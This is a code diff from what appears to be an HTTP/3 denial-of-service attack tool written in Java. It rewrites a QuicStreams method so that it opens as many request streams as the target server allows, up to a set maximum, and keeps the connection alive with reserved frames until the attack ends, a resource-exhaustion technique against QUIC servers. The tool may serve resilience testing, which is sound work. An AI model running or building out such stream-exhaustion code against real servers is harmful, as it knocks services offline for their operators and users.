@@ -34,18 +34,35 @@ final class QuicStreams {
     }
   }
 
+  /** Opens a stream of an attack. */
+  interface Opening {
+    void open() throws IOException;
+  }
+
   /**
-   * Sends reserved frames on a request stream until the attack is over, so that the connection is
-   * not idle.
+   * Opens streams as soon as the server allows them, and sends reserved frames on a further request
+   * stream, so that the connection is not idle, until the attack is over.
    *
+   * @param most the maximum number of streams to open
    * @throws IOException if the server closes the connection
    */
-  static void stay(AttackSession session, RawQuicConnection connection)
+  static void open(AttackSession session, RawQuicConnection connection, int most, Opening opening)
       throws IOException, InterruptedException {
     byte[] frame = Http3Frames.frame(Http3Frames.RESERVED, new byte[0]);
-    var stream = connection.request(true);
-    while (session.pause(Streams.PING_INTERVAL)) {
-      connection.writeIfOpen(stream, frame);
+    QuicStreamChannel idle = connection.request(true);
+    long nextFrame = System.nanoTime();
+    int opened = 0;
+    while (!session.isOver()) {
+      if (opened < most && connection.allowsRequest()) {
+        opening.open();
+        opened++;
+      } else {
+        session.pause(BLOCKED);
+      }
+      if (System.nanoTime() - nextFrame >= 0) {
+        connection.writeIfOpen(idle, frame);
+        nextFrame = System.nanoTime() + Streams.PING_INTERVAL.toNanos();
+      }
     }
   }
 }
